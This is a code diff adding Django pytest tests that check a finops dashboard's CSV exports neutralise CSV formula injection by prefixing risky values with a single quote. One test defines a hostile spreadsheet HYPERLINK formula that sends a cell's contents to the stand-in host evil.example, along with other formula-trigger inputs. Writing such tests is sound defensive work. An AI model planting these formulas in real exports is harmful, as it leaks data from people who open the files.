@@ -6,13 +6,16 @@ from __future__ import annotations
 import csv
 import io
 from decimal import Decimal
+from typing import Any
 
 import pytest
 from django.test import Client
 from django.utils import timezone
 
+from finops.lib.tables import cell
 from tests.finops.budget_factories import budget
 from tests.finops.dashboard_factories import logged_in, runtime_samples, traffic
+from tests.finops.factories import batch_body, event_dict
 
 pytestmark = pytest.mark.django_db
 
@@ -62,6 +65,25 @@ def test_a_detail_page_exports_its_end_users_and_budgets(pm: Client) -> None:
     budgets = rows(pm.get("/tenants/acme/?format=csv&table=budgets"))
     assert budgets[0]["budget"] == "acme monthly"
     assert Decimal(budgets[0]["used"]) == 3 and Decimal(budgets[0]["limit"]) == 10
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Your invoice")'
+
+
+def test_a_formula_sent_as_the_openai_user_exports_as_text(pm: Client, post_batch: Any) -> None:
+    """CSV injection: a client-chosen text that starts like a formula is written with a leading single
+    quote, so a spreadsheet shows it instead of running it (OWASP's advice)."""
+    hostile = [FORMULA, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
+    records = [event_dict(end_user=user) for user in [*hostile, "alice", "a=b"]]
+    assert post_batch(batch_body(events=records)).json()["accepted"] == len(records)
+
+    users = {u["end_user"] for u in rows(pm.get("/tenants/acme/?format=csv&table=end-users"))}
+
+    assert users == {*(f"'{user}" for user in hostile), "alice", "a=b"}
+
+
+def test_numbers_in_an_export_stay_numbers_negative_ones_included() -> None:
+    assert [cell(Decimal("-1.50")), cell(-3), cell(-0.25), cell("-0.25")] == ["-1.50", "-3", "-0.25", "'-0.25"]
 
 
 def test_the_gpu_page_exports_runtimes_devices_idle_capacity_and_energy(pm: Client) -> None:
